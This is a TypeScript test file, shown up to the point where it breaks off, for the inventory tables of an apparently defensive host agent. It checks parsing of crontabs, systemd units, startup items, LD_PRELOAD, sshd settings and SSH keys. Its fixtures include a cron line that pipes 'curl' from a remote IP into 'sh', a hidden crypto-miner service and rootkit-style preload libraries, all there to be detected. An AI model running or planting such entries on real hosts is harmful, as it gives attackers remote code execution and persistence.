import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, chownSync, lchownSync, linkSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import Database from 'better-sqlite3';
import type { Row, TableSpec } from '../../src/agent/inventory/table.js';
import { containers } from '../../src/agent/inventory/tables/containers.js';
import { crontab, cronNamesOf, fileVerdict, nameVerdict, parseCrontab, type CronFileFacts } from '../../src/agent/inventory/tables/cron.js';
import { parseHistory, shellHistory, unmetafy } from '../../src/agent/inventory/tables/history.js';
import { readBytes } from '../../src/agent/inventory/tables/host-read.js';
import { debPackages } from '../../src/agent/inventory/tables/packages-deb.js';
import { ldSoPreload, parseAssignments, parsePreloadFile } from '../../src/agent/inventory/tables/preload.js';
import { softwareTables } from '../../src/agent/inventory/tables/software.js';
import { authorizedKeys, parseAuthorizedKey, sshConfigs } from '../../src/agent/inventory/tables/ssh.js';
import { startupItems } from '../../src/agent/inventory/tables/startup.js';
import { parseUnitFile, systemdUnits } from '../../src/agent/inventory/tables/systemd.js';
import { errorCatalog } from '../../src/common/errors.js';
import { assertRowsMatchSpec, buildRoot, removeRoot, testContext, warningFor, type TestContext } from '../fixtures/inventory/software/fixture.js';

let root: string;
before(() => {
  root = buildRoot();
});
after(() => removeRoot(root));

/** Runs a table on the fixture host, checks its rows against its spec, returns rows and context. */
async function run(spec: TableSpec, options: { maxFileBytes?: number } = {}): Promise<{ rows: Row[]; ctx: TestContext }> {
  const ctx = testContext(root, options);
  const rows = await spec.generate(ctx);
  assertRowsMatchSpec(spec, rows);
  for (const w of ctx.warnings) assert.ok(Object.hasOwn(errorCatalog, w.code), `warning code ${w.code} is in the catalogue`);
  return { rows, ctx };
}

const by = <T extends Row>(rows: readonly T[], column: string, value: unknown): T[] => rows.filter((r) => r[column] === value);

describe('software tables: the registry', () => {
  it('lists each table once, each with described columns and at least one example', () => {
    const names = softwareTables.map((t) => t.name);
    assert.equal(new Set(names).size, names.length);
    for (const expected of ['deb_packages', 'rpm_packages', 'python_packages', 'npm_packages', 'jar_packages', 'package_findings', 'crontab', 'systemd_units', 'startup_items', 'ld_so_preload', 'ssh_configs', 'authorized_keys', 'shell_history', 'containers']) {
      assert.ok(names.includes(expected), expected);
    }
    for (const table of softwareTables) {
      assert.match(table.name, /^[a-z][a-z0-9_]*$/);
      assert.ok(table.examples.length >= 1, table.name);
      assert.ok(table.description.length > 20, table.name);
      for (const column of table.columns) assert.ok(column.description.length > 3, `${table.name}.${column.name}`);
      assert.equal(new Set(table.columns.map((c) => c.name)).size, table.columns.length, `${table.name}: column names are unique`);
    }
  });
});

describe('deb_packages', () => {
  it('reads the stanzas of the dpkg status, skipping a corrupt one and one without Status with warnings', async () => {
    const { rows, ctx } = await run(debPackages);
    assert.deepEqual(
      rows.map((r) => r['name']),
      ['bash', 'libssl3', 'oldconf'],
    );
    assert.deepEqual(by(rows, 'name', 'bash')[0], {
      name: 'bash',
      version: '5.2.15-2+b7',
      arch: 'amd64',
      status: 'install ok installed',
      source: 'bash',
      size: 7164,
      maintainer: 'Matthias Klose <doko@debian.org>',
      section: 'shells',
    });
    assert.equal(by(rows, 'name', 'libssl3')[0]?.['source'], 'openssl', 'the source without its version');
    assert.equal(by(rows, 'name', 'oldconf')[0]?.['status'], 'deinstall ok config-files');
    const malformed = ctx.warnings.filter((w) => w.code === 'HADES_ERR_INVENTORY_MALFORMED');
    assert.equal(malformed.length, 2, JSON.stringify(ctx.warnings));
    assert.match(malformed[0]?.message ?? '', /not "Field: value"/);
    assert.match(malformed[1]?.message ?? '', /nostatus: no Status field/);
    assert.equal(malformed[0]?.path, '/var/lib/dpkg/status');
  });
});

describe('crontab', () => {
  it('parses system and user crontabs and the cron.* folders; environment lines are silent, broken lines warned', async () => {
    const { rows, ctx } = await run(crontab);
    const system = by(rows, 'path', '/etc/crontab');
    assert.deepEqual(system[0], {
      minute: '17',
      hour: '*',
      day_of_month: '*',
      month: '*',
      day_of_week: '*',
      special: null,
      user: 'root',
      command: 'cd / && run-parts --report /etc/cron.hourly',
      path: '/etc/crontab',
      line: 6,
      active: null,
      inactive_reason: null,
    });
    assert.deepEqual(
      [system[1]?.['special'], system[1]?.['user'], system[1]?.['command'], system[1]?.['minute']],
      ['@reboot', 'root', '/opt/app/start.sh  --quiet', null],
      'the command keeps its spacing',
    );
    assert.equal(system.length, 2);

    const backup = by(rows, 'path', '/etc/cron.d/backup');
    assert.deepEqual(
      backup.map((r) => [r['user'], r['special'] ?? `${String(r['minute'])} ${String(r['day_of_week'])}`, r['command']]),
      [
        ['backup', '0 1-5', '/usr/local/bin/backup.sh --full  >/dev/null 2>&1'],
        ['root', '@weekly', '/usr/bin/true'],
        ['www-data', '*/10 *', 'php /var/www/cron.php % a b'],
      ],
    );
    const alice = by(rows, 'path', '/var/spool/cron/crontabs/alice');
    assert.deepEqual(
      alice.map((r) => [r['user'], r['minute'], r['command'], r['line']]),
      [['alice', '*/5', 'curl -s http://203.0.113.7/x.sh | sh', 2]],
    );
    assert.deepEqual(by(rows, 'path', '/etc/cron.daily/logrotate')[0], {
      minute: null,
      hour: null,
      day_of_month: null,
      month: null,
      day_of_week: null,
      special: '@daily',
      user: 'root',
      command: '/etc/cron.daily/logrotate',
      path: '/etc/cron.daily/logrotate',
      line: null,
      active: null,
      inactive_reason: null,
    });
    // Not a Debian host (no /etc/debian_version): only the rules every cron has are applied.
    assert.deepEqual(
      rows.filter((r) => r['active'] !== null).map((r) => [r['path'], r['active'], r['inactive_reason']]),
      [
        ['/etc/cron.d/.hidden', 0, 'hidden name (starts with a dot): cron skips it'],
        ['/etc/cron.d/backup~', 0, 'editor backup name (ends with ~): cron skips it'],
        ['/etc/cron.daily/.placeholder', 0, 'hidden name (starts with a dot): run-parts skips it'],
      ],
      'hidden and backup~ files are listed, as skipped',
    );

    const broken = ctx.warnings.filter((w) => w.code === 'HADES_ERR_INVENTORY_MALFORMED').map((w) => `${w.path ?? ''} ${w.message}`);
    assert.deepEqual(broken, [
      '/etc/crontab line 8: not a schedule of five time fields; skipped',
      '/etc/cron.d/backup line 5: unknown schedule @hourlyy; skipped',
      '/etc/cron.d/backup line 6: too few fields (a system crontab line needs a user and a command); skipped',
      '/var/spool/cron/crontabs/alice line 5: not a schedule of five time fields; skipped',
    ]);
    assert.ok(warningFor(ctx, 'HADES_ERR_INVENTORY_FILE_TOO_BIG', '/etc/cron.d/huge'), 'a file over the limit is skipped with a warning');
    assert.ok(!rows.some((r) => r['command'] === '/never'));
    const notFolder = warningFor(ctx, 'HADES_ERR_INVENTORY_UNREADABLE', '/etc/cron.weekly');
    assert.match(notFolder?.message ?? '', /a file is where a folder is expected/);
  });

  it('a user crontab line needs a command; a system one a user too', () => {
    const ctx = testContext('/nonexistent');
    assert.deepEqual(parseCrontab(ctx, '* * * * *\n', { path: '/x', user: 'bob' }), []);
    assert.deepEqual(parseCrontab(ctx, '@reboot root\n', { path: '/x' }), []);
    assert.equal(ctx.warnings.length, 2);
    assert.deepEqual(
      parseCrontab(ctx, '  \t# c\n@Daily  /bin/run x\r\n', { path: '/x', user: 'bob' }).map((r) => [r['special'], r['command'], r['line']]),
      [['@daily', '/bin/run x', 2]],
    );
  });
});

describe('crontab: what cron skips', () => {
  const facts = (target: { uid?: number; mode: number; nlink?: number }, link?: { uid: number }): CronFileFacts => ({
    link: { uid: link?.uid ?? target.uid ?? 0, isSymbolicLink: () => link !== undefined },
    target: { uid: target.uid ?? 0, mode: target.mode, nlink: target.nlink ?? 1 },
  });
  const accounts = new Map([['root', 0], ['alice', 1000]]);

  it("names: every cron skips hidden and backup names; Debian's cron and run-parts anything but letters, digits, _ and -", () => {
    for (const place of ['cron.d', 'spool', 'periodic'] as const) {
      for (const debian of [false, true]) {
        assert.match(nameVerdict('.placeholder', place, debian)?.reason ?? '', /hidden/);
        assert.match(nameVerdict('job~', place, debian)?.reason ?? '', /backup/);
        assert.equal(nameVerdict('Job_2-x', place, debian), undefined);
      }
    }
    for (const name of ['job.dpkg-dist', 'backup.sh', 'a b', 'caf\u00e9', 'x+y', 'x,']) {
      assert.match(nameVerdict(name, 'cron.d', true)?.reason ?? '', /^name has characters other than .*: cron skips it$/, name);
      assert.match(nameVerdict(name, 'periodic', true)?.reason ?? '', /: run-parts skips it$/, name);
      assert.equal(nameVerdict(name, 'cron.d', false), undefined, `${name}: not judged off Debian`);
      assert.equal(nameVerdict(name, 'spool', true), undefined, `${name}: a spool file is judged by its account, not its name`);
    }
    assert.equal(nameVerdict('.anything', 'system', true), undefined, '/etc/crontab has no name rule');
  });

  it('names with cron -l (LSB names): /etc/cron.d by the LSB namespaces, the cron.* folders as before', () => {
    const lsb = (name: string) => nameVerdict(name, 'cron.d', true, 'lsb')?.reason;
    // Taken with -l: a traditional LSB name, a hierarchical one (dots and _ allowed), a dpkg leftover cron's check lets by.
    for (const name of ['good', 'my-job', 'job-', '0anacron', 'vendor.tool-job', '_vendor-job2', 'a_b.c-d', 'job.dpkg-new', '_x.dpkg-dist']) {
      assert.equal(lsb(name), undefined, name);
    }
    for (const name of ['Backup', 'my_job', 'backup.sh', '-job', 'Job-x', 'vendor.tool-Job', 'caf\u00e9', 'a b']) {
      assert.match(lsb(name) ?? '', /^name is in none of the LSB namespaces .*: cron -l \(LSB names, EXTRA_OPTS of \/etc\/default\/cron\) skips it$/, name);
    }
    for (const name of ['job.dpkg-dist', 'job.dpkg-old', 'x-dpkg-old']) assert.match(lsb(name) ?? '', /^name ends in dpkg-old or dpkg-dist/, name);
    assert.match(lsb('.hidden-job') ?? '', /hidden/);
    assert.match(lsb('job~') ?? '', /backup/);
    // Without -l the same names go the other way.
    assert.equal(nameVerdict('Backup', 'cron.d', true), undefined);
    assert.equal(nameVerdict('my_job', 'cron.d', true), undefined);
    assert.match(nameVerdict('vendor.tool-job', 'cron.d', true)?.reason ?? '', /^name has characters other than/);
    // -l is cron's alone: run-parts keeps its rule, and off Debian nothing is judged by name.
    assert.equal(nameVerdict('Backup', 'periodic', true, 'lsb'), undefined);
    assert.match(nameVerdict('vendor.tool-job', 'periodic', true, 'lsb')?.reason ?? '', /run-parts skips it/);
    assert.equal(nameVerdict('Backup', 'cron.d', false, 'lsb'), undefined);
  });

  it('reads -l from EXTRA_OPTS of /etc/default/cron as cron\'s getopt does', () => {
    const shipped = '# Options for cron\nREAD_ENV="yes"\n\n# to take LSB names in /etc/cron.d:\n# EXTRA_OPTS=\'-l\'\n#EXTRA_OPTS=""\n';
    const cases: [string | undefined, string][] = [
      [undefined, 'classic'],
      ['', 'classic'],
      [shipped, 'classic'],
      [`${shipped}EXTRA_OPTS='-l'\n`, 'lsb'],
      ['EXTRA_OPTS="-l"', 'lsb'],
      ['EXTRA_OPTS=-l', 'lsb'],
      ['  export EXTRA_OPTS="-L 5 -l"', 'lsb'],
      ['EXTRA_OPTS="-fl"', 'lsb'],
      ['EXTRA_OPTS="-n -L15 -l"', 'lsb'],
      ['EXTRA_OPTS="-L 5"', 'classic'],
      ['EXTRA_OPTS="-L l"', 'classic'],
      ['EXTRA_OPTS="-Ll"', 'classic'],
      ['EXTRA_OPTS="-- -l"', 'classic'],
      ['EXTRA_OPTS="-l"\nEXTRA_OPTS=""', 'classic'],
      ['EXTRA_OPTS=""\r\nEXTRA_OPTS="-l"\r\n', 'lsb'],
      ['; EXTRA_OPTS="-l"', 'classic'],
      ['OTHER_EXTRA_OPTS="-l"', 'classic'],
    ];
    for (const [text, expected] of cases) assert.equal(cronNamesOf(text), expected, JSON.stringify(text));
  });

  it('owner, mode and links, in the order Debian\'s cron checks them', () => {
    const system = (f: CronFileFacts): string | null | undefined => fileVerdict(f, 'cron.d', 'job', true, accounts)?.reason;
    assert.equal(system(facts({ mode: 0o100644 })), undefined);
    assert.equal(system(facts({ mode: 0o100600 })), undefined);
    assert.match(system(facts({ mode: 0o100664 })) ?? '', /mode 0664, writable by group or others/);
    assert.match(system(facts({ mode: 0o100646 })) ?? '', /mode 0646, writable by group or others/);
    assert.match(system(facts({ mode: 0o100644, uid: 1000 })) ?? '', /owned by uid 1000, not root/);
    assert.match(system(facts({ mode: 0o100644 }, { uid: 1000 })) ?? '', /symbolic link owned by uid 1000/);
    assert.match(system(facts({ mode: 0o100644, nlink: 2 })) ?? '', /2 hard links, not 1/);
    assert.equal(fileVerdict(facts({ mode: 0o100666, uid: 5 }), 'cron.d', 'job', false, undefined), undefined, 'not judged off Debian');

    const spool = (name: string, f: CronFileFacts): string | null | undefined => fileVerdict(f, 'spool', name, true, accounts)?.reason;
    assert.equal(spool('alice', facts({ mode: 0o100600, uid: 1000 })), undefined);
    assert.equal(spool('alice', facts({ mode: 0o100600, uid: 0 })), undefined, 'root may own a user crontab');
    assert.match(spool('alice', facts({ mode: 0o100600, uid: 1001 })) ?? '', /owned by uid 1001, neither alice nor root/);
    assert.match(spool('alice', facts({ mode: 0o100644, uid: 1000 })) ?? '', /mode 0644, not 0600/);
    assert.match(spool('tmp.X1y2', facts({ mode: 0o100600 })) ?? '', /no account named tmp.X1y2/);
    assert.equal(fileVerdict(facts({ mode: 0o100600 }), 'spool', 'tmp.X1y2', true, undefined), undefined, 'no /etc/passwd: the account is not judged');

    for (const debian of [false, true]) {
      assert.match(fileVerdict(facts({ mode: 0o100644 }), 'periodic', 'job', debian, accounts)?.reason ?? '', /not executable: run-parts skips it/);
      assert.equal(fileVerdict(facts({ mode: 0o100700, uid: 1000 }), 'periodic', 'job', debian, accounts), undefined, 'run-parts checks neither owner nor mode beyond x');
    }
  });

  it('on a Debian host judges /etc/cron.d by the names of the mode /etc/default/cron sets: without -l, then with it', { skip: process.getuid?.() !== 0 && 'needs root to own the files as cron wants' }, async () => {
    const names = ['good', 'Backup', 'my_job', 'vendor.tool-job', 'backup.sh', 'job.dpkg-dist', 'job.dpkg-new'];
    const verdicts = async (defaults: string | undefined): Promise<Record<string, string>> => {
      const host = mkdtempSync(path.join(tmpdir(), 'hades-inv-cron-lsb-'));
      try {
        const put = (file: string, text: string): void => {
          mkdirSync(path.dirname(path.join(host, file)), { recursive: true });
          writeFileSync(path.join(host, file), text, { mode: 0o644 });
        };
        put('etc/debian_version', '12.5\n');
        put('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\n');
        if (defaults !== undefined) put('etc/default/cron', defaults);
        for (const name of names) put(`etc/cron.d/${name}`, '* * * * * root /bin/true\n');
        const ctx = testContext(host);
        const rows = await crontab.generate(ctx);
        assertRowsMatchSpec(crontab, rows);
        assert.deepEqual(ctx.warnings, []);
        return Object.fromEntries(rows.map((r) => [path.posix.basename(String(r['path'])), r['active'] === 1 ? 'runs' : String(r['inactive_reason'])]));
      } finally {
        rmSync(host, { recursive: true, force: true });
      }
    };
    const dots = 'name has characters other than letters, digits, _ and - (a dot, for one): cron skips it';
    const classic = { good: 'runs', Backup: 'runs', my_job: 'runs', 'vendor.tool-job': dots, 'backup.sh': dots, 'job.dpkg-dist': dots, 'job.dpkg-new': dots };
    assert.deepEqual(await verdicts(undefined), classic, 'no /etc/default/cron');
    const shipped = '# Options for cron\nREAD_ENV="yes"\n# EXTRA_OPTS=\'-l\' takes LSB names in /etc/cron.d\n#EXTRA_OPTS=""\n';
    assert.deepEqual(await verdicts(shipped), classic, 'EXTRA_OPTS commented out, as shipped');
    assert.deepEqual(await verdicts(`${shipped}EXTRA_OPTS='-L 5'\n`), classic, 'other options');
    const lsb = (why: string): string => `${why}: cron -l (LSB names, EXTRA_OPTS of /etc/default/cron) skips it`;
    const none = lsb('name is in none of the LSB namespaces (lower-case letters, digits and -; or a hierarchical name with a -, such as vendor.tool-job)');
    assert.deepEqual(await verdicts(`${shipped}EXTRA_OPTS='-L 5 -l'\n`), {
      good: 'runs',
      Backup: none,
      my_job: none,
      'vendor.tool-job': 'runs',
      'backup.sh': none,
      'job.dpkg-dist': lsb('name ends in dpkg-old or dpkg-dist (a package manager leftover)'),
      'job.dpkg-new': 'runs',
    });
  });

  it('on a Debian host lists every file with its verdict, and agrees with the real run-parts on cron.daily', { skip: process.getuid?.() !== 0 && 'needs root to give files other owners' }, async () => {
    const host = mkdtempSync(path.join(tmpdir(), 'hades-inv-cron-'));
    try {
      const put = (file: string, text: string, mode: number, uid = 0): void => {
        const full = path.join(host, file);
        mkdirSync(path.dirname(full), { recursive: true });
        writeFileSync(full, text);
        chmodSync(full, mode);
        chownSync(full, uid, 0);
      };
      const job = (user: string): string => `* * * * * ${user} /bin/true\n`;
      put('etc/debian_version', '12.5\n', 0o644);
      put('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n', 0o644);
      put('etc/crontab', job('root'), 0o644);
      put('etc/cron.d/good', job('root'), 0o644);
      put('etc/cron.d/.placeholder', job('root'), 0o644);
      put('etc/cron.d/job.dpkg-dist', job('root'), 0o644);
      put('etc/cron.d/backup.sh', job('root'), 0o644);
      put('etc/cron.d/group-writable', job('root'), 0o664);
      put('etc/cron.d/not-roots', job('root'), 0o644, 1000);
      put('etc/cron.d/hard-linked', job('root'), 0o644);
      linkSync(path.join(host, 'etc/cron.d/hard-linked'), path.join(host, 'etc/hard-link'));
      put('opt/linked', job('root'), 0o644);
      symlinkSync('../../opt/linked', path.join(host, 'etc/cron.d/root-link'));
      symlinkSync('../../opt/linked', path.join(host, 'etc/cron.d/alice-link'));
      lchownSync(path.join(host, 'etc/cron.d/alice-link'), 1000, 1000);
      put('var/spool/cron/crontabs/alice', '@reboot /bin/true\n', 0o600, 1000);
      put('var/spool/cron/crontabs/tmp.aB3dE', '@reboot /bin/true\n', 0o600);
      put('var/spool/cron/alice', '@reboot /bin/true\n', 0o600, 1000);
      put('etc/cron.daily/good', '#!/bin/sh\n', 0o755);
      put('etc/cron.daily/with.dot', '#!/bin/sh\n', 0o755);
      put('etc/cron.daily/no-exec', '#!/bin/sh\n', 0o644);
      put('etc/cron.daily/.placeholder', '', 0o644);
      put('etc/cron.daily/old~', '#!/bin/sh\n', 0o755);
      put('etc/cron.daily/not-roots', '#!/bin/sh\n', 0o777, 1000);

      const ctx = testContext(host);
      const rows = await crontab.generate(ctx);
      assertRowsMatchSpec(crontab, rows);
      assert.deepEqual(ctx.warnings, []);
      const verdicts = Object.fromEntries(rows.map((r) => [r['path'], r['active'] === 1 ? 'runs' : String(r['inactive_reason'])]));
      assert.deepEqual(verdicts, {
        '/etc/crontab': 'runs',
        '/etc/cron.d/.placeholder': 'hidden name (starts with a dot): cron skips it',
        '/etc/cron.d/alice-link': 'symbolic link owned by uid 1000, not root: cron skips it',
        '/etc/cron.d/backup.sh': 'name has characters other than letters, digits, _ and - (a dot, for one): cron skips it',
        '/etc/cron.d/good': 'runs',
        '/etc/cron.d/group-writable': 'mode 0664, writable by group or others: cron skips it',
        '/etc/cron.d/hard-linked': '2 hard links, not 1: cron skips it',
        '/etc/cron.d/job.dpkg-dist': 'name has characters other than letters, digits, _ and - (a dot, for one): cron skips it',
        '/etc/cron.d/not-roots': 'owned by uid 1000, not root: cron skips it',
        '/etc/cron.d/root-link': 'runs',
        '/var/spool/cron/crontabs/alice': 'runs',
        '/var/spool/cron/crontabs/tmp.aB3dE': 'no account named tmp.aB3dE: cron skips it',
        '/var/spool/cron/alice': "Debian's cron reads users' crontabs in /var/spool/cron/crontabs only: cron skips it",
        '/etc/cron.daily/.placeholder': 'hidden name (starts with a dot): run-parts skips it',
        '/etc/cron.daily/good': 'runs',
        '/etc/cron.daily/no-exec': 'not executable: run-parts skips it',
        '/etc/cron.daily/not-roots': 'runs',
        '/etc/cron.daily/old~': 'editor backup name (ends with ~): run-parts skips it',
        '/etc/cron.daily/with.dot': 'name has characters other than letters, digits, _ and - (a dot, for one): run-parts skips it',
      });

      // The real run-parts (Debian's debianutils) is the oracle for the cron.* folders, where present.
      let runParts: string | undefined;
      try {
        runParts = execFileSync('run-parts', ['--test', path.join(host, 'etc/cron.daily')], { encoding: 'utf8' });
      } catch {
        runParts = undefined;
      }
      if (runParts !== undefined) {
        const ours = rows.filter((r) => r['special'] === '@daily' && r['active'] === 1).map((r) => path.posix.basename(String(r['path'])));
        assert.deepEqual(ours, runParts.trim().split('\n').map((line) => path.basename(line)));
      }
    } finally {
      rmSync(host, { recursive: true, force: true });
    }
  });
});

describe('systemd_units', () => {
  it('reads units with drop-ins merged, and tells enabled, overridden, masked and aliased ones', async () => {
    const { rows, ctx } = await run(systemdUnits);
    const unit = (name: string, path?: string): Row | undefined => rows.find((r) => r['name'] === name && (path === undefined || r['path'] === path));
    assert.deepEqual(unit('evil.service'), {
      name: 'evil.service',
      scope: 'system',
      owner: null,
      type: 'service',
      path: '/etc/systemd/system/evil.service',
      description: 'System helper    daemon',
      exec_start: '/tmp/.x/miner --pool stratum+tcp://pool.example:3333',
      user: 'nobody',
      wanted_by: 'multi-user.target',
      enabled: 1,
      overridden: 0,
      masked: 0,
      symlink_target: null,
      drop_ins: null,
    });
    const local = unit('ssh.service', '/etc/systemd/system/ssh.service');
    assert.equal(local?.['exec_start'], '/usr/sbin/sshd -D -p 2222', 'the drop-in resets ExecStart and sets its own');
    assert.equal(local?.['drop_ins'], '/etc/systemd/system/ssh.service.d/override.conf');
    assert.equal(local?.['overridden'], 0);
    assert.equal(local?.['enabled'], 1, 'enabled through the sshd.service alias');
    const vendor = unit('ssh.service', '/lib/systemd/system/ssh.service');
    assert.equal(vendor?.['overridden'], 1, 'the /etc copy wins over the vendor one');
    assert.equal(vendor?.['exec_start'], '/usr/sbin/sshd -D -p 2222', 'drop-ins apply whichever file is read');
    const alias = unit('sshd.service');
    assert.equal(alias?.['symlink_target'], '/lib/systemd/system/ssh.service');
    assert.equal(alias?.['description'], 'OpenBSD Secure Shell server', 'an alias is read through its absolute link, under the root');
    const masked = unit('bluetooth.service');
    assert.deepEqual([masked?.['masked'], masked?.['symlink_target'], masked?.['description']], [1, '/dev/null', null]);
    assert.equal(unit('empty.service')?.['masked'], 1, 'an empty unit file is masked');
    const getty = unit('getty@.service');
    assert.equal(getty?.['enabled'], 1, 'an enabled instance enables its template');
    assert.equal(getty?.['exec_start'], "-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM");
    assert.deepEqual([unit('agent.service')?.['scope'], unit('agent.service')?.['owner']], ['user', null]);
    const persist = unit('persist.service');
    assert.deepEqual([persist?.['scope'], persist?.['owner'], persist?.['enabled'], persist?.['wanted_by']], ['user', 'alice', 0, 'default.target']);
    assert.ok(warningFor(ctx, 'HADES_ERR_INVENTORY_UNREADABLE', '/home/bob/.config'), 'bob\'s .config is a file: warned, not fatal');
  });

  it('parses INI: comments, continuations, repeated keys and list resets', () => {
    const sections = parseUnitFile('[Service]\n# c\n; c\nExecStart=/a\nExecStart=/b \\\n  --flag\nUser=a\nUser=b\nnot a key\n[Install]\nWantedBy=a.target b.target\n');
    assert.deepEqual(sections.get('Service')?.get('ExecStart'), ['/a', '/b    --flag']);
    assert.deepEqual(sections.get('Service')?.get('User'), ['b']);
    assert.deepEqual(sections.get('Install')?.get('WantedBy'), ['a.target b.target']);
  });
});

describe('startup_items', () => {
  it('lists init scripts, rc.local, profiles, home profiles and XDG autostart with hashes', async () => {
    const { rows } = await run(startupItems);
    const paths = rows.map((r) => r['path']);
    for (const p of ['/etc/init.d/ssh', '/etc/rc.local', '/etc/profile', '/etc/profile.d/evil.sh', '/etc/environment', '/etc/xdg/autostart/updater.desktop', '/home/alice/.bashrc', '/home/alice/.config/autostart/x.desktop', '/root/.profile']) {
      assert.ok(paths.includes(p), p);
    }
    const rc = by(rows, 'path', '/etc/rc.local')[0];
    assert.equal(rc?.['type'], 'rc.local');
    const content = readFileSync(path.join(root, 'etc/rc.local'));
    assert.equal(rc?.['sha256'], createHash('sha256').update(content).digest('hex'));
    assert.equal(rc?.['size'], content.length);
    assert.match(String(rc?.['mode']), /^0[0-7]{3}$/);
    const x = by(rows, 'path', '/home/alice/.config/autostart/x.desktop')[0];
    assert.deepEqual([x?.['type'], x?.['user'], x?.['command']], ['xdg_autostart', 'alice', '/home/alice/.x/run']);
    assert.deepEqual([by(rows, 'path', '/home/alice/.bashrc')[0]?.['type'], by(rows, 'path', '/home/alice/.bashrc')[0]?.['user']], ['user_profile', 'alice']);
  });

  it('does not hash when the query does not read sha256', async () => {
    const ctx = testContext(root, { columns: new Set(['path']) });
    const rows = await startupItems.generate(ctx);
    assert.ok(rows.length > 0);
    assert.ok(rows.every((r) => r['sha256'] === null));
  });
});

describe('ld_so_preload', () => {
  it('reads /etc/ld.so.preload and LD_PRELOAD in /etc/environment and profile scripts', async () => {
    const { rows } = await run(ldSoPreload);
    assert.deepEqual(
      rows.map((r) => [r['path'], r['file_exists'], r['source'], r['line']]),
      [
        ['/usr/lib/libhide.so', 1, '/etc/ld.so.preload', 2],
        ['/lib/missing.so', 0, '/etc/ld.so.preload', 2],
        ['/usr/lib/$LIB/libz.so', null, '/etc/ld.so.preload', 2],
        ['/usr/lib/libenv.so', 0, '/etc/environment', 2],
        ['/usr/lib/libhide.so', 1, '/etc/environment', 2],
        ['/usr/lib/libevil.so', 0, '/etc/profile.d/evil.sh', 2],
      ],
    );
    assert.match(String(rows[0]?.['sha256']), /^[0-9a-f]{64}$/);
  });

  it('parses separators, comments and quoting', () => {
    assert.deepEqual(
      parsePreloadFile('#x\n a.so:b.so\tc.so # d.so\n', 'f').map((l) => l.library),
      ['a.so', 'b.so', 'c.so'],
    );
    assert.deepEqual(
      parseAssignments("# LD_PRELOAD=/no\nfoo; export LD_PRELOAD='/x.so /y.so'\nMY_LD_PRELOAD=/no\nLD_PRELOAD=/z.so cmd\n", 'f').map((l) => [l.library, l.line]),
      [
        ['/x.so', 2],
        ['/y.so', 2],
        ['/z.so', 4],
      ],
    );
  });
});

describe('ssh_configs', () => {
  it('gives sshd\'s effective settings: first value wins across Include, loops refused, Match blocks, defaults', async () => {
    const { rows, ctx } = await run(sshConfigs);
    const global = (key: string): Row[] => rows.filter((r) => r['key'] === key && r['match'] === null);
    assert.deepEqual(
      global('Port').map((r) => [r['value'], r['source']]),
      [
        ['22', '/etc/ssh/sshd_config:2'],
        ['2222', '/etc/ssh/sshd_config:3'],
      ],
      'Port accumulates',
    );
    assert.deepEqual(global('PermitRootLogin').map((r) => [r['value'], r['source']]), [['yes', '/etc/ssh/sshd_config:4']], 'set before the Include: wins');
    assert.deepEqual(
      global('PasswordAuthentication').map((r) => [r['value'], r['source']]),
      [['yes', '/etc/ssh/sshd_config.d/10-first.conf:1']],
      'the included file comes first: its value wins',
    );
    assert.deepEqual(global('X11Forwarding').map((r) => r['value']), ['yes'], 'set by the included file');
    assert.deepEqual(global('PermitEmptyPasswords').map((r) => [r['value'], r['source']]), [['no', '/etc/ssh/sshd_config:7']], 'Key=value and any case');
    assert.deepEqual(global('AllowUsers').map((r) => r['value']), ['alice bob', 'carol']);
    assert.deepEqual(
      rows.filter((r) => r['match'] !== null).map((r) => [r['match'], r['key'], r['value']]),
      [
        ['User backup', 'PasswordAuthentication', 'yes'],
        ['User backup', 'ForceCommand', '/usr/bin/rrsync /srv/backup'],
        ['all', 'X11Forwarding', 'no'],
      ],
      'the second PasswordAuthentication of the block is ignored; "Match all" is a block too',
    );
    assert.deepEqual(global('PubkeyAuthentication'), [{ key: 'PubkeyAuthentication', value: 'yes', source: 'default', match: null }]);
    assert.deepEqual(global('DenyUsers'), [{ key: 'DenyUsers', value: null, source: 'default', match: null }]);
    assert.equal(global('UsePAM')[0]?.['source'], 'default', 'a keyword without value is skipped: the default applies');
    assert.ok(warningFor(ctx, 'HADES_ERR_INVENTORY_MALFORMED', '/etc/ssh/sshd_config'));
    const loop = warningFor(ctx, 'HADES_ERR_INVENTORY_LOOP', '/etc/ssh/sshd_config');
    assert.match(loop?.message ?? '', /Include loop/);
  });

  it('is empty without an sshd_config', async () => {
    const ctx = testContext('/nonexistent-root');
    assert.deepEqual(await sshConfigs.generate(ctx), []);
    assert.deepEqual(ctx.warnings, []);
  });
});

describe('authorized_keys', () => {
  it('lists keys with ssh-keygen fingerprints, options and comments; bad lines warned', async () => {
    const { rows, ctx } = await run(authorizedKeys);
    assert.deepEqual(rows, [
      { user: 'root', path: '/root/.ssh/authorized_keys', line: 2, key_type: 'ssh-ed25519', key: 'SHA256:M66CWDB1caTfJll4josi2wRyQYPK8G7pVR3ICoGQJYw', comment: 'alice@laptop', options: null },
      {
        user: 'root',
        path: '/root/.ssh/authorized_keys',
        line: 3,
        key_type: 'ecdsa-sha2-nistp256',
        key: 'SHA256:QDWIIHdU3/iWaTe5rkpiF/aNPFec5nqaPAD+3rc1WyE',
        comment: 'ops key',
        options: 'from="10.0.0.0/8,192.168.1.1",command="/usr/bin/rrsync -ro /srv",no-pty',
      },
      { user: 'alice', path: '/home/alice/.ssh/authorized_keys2', line: 1, key_type: 'ssh-ed25519', key: 'SHA256:M66CWDB1caTfJll4josi2wRyQYPK8G7pVR3ICoGQJYw', comment: null, options: null },
    ]);
    assert.deepEqual(
      ctx.warnings.filter((w) => w.code === 'HADES_ERR_INVENTORY_MALFORMED' && w.path === '/root/.ssh/authorized_keys').map((w) => w.message),
      ['line 5: the key is not base64; skipped', 'line 6: the key data is not a ssh-rsa key; skipped', 'line 7: no key after the options; skipped'],
    );
  });

  it('reads the files AuthorizedKeysFile names, globally and in Match blocks, with its tokens expanded', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'hades-inv-akf-'));
    try {
      const put = (file: string, text: string): void => {
        mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
        writeFileSync(path.join(dir, file), text);
      };
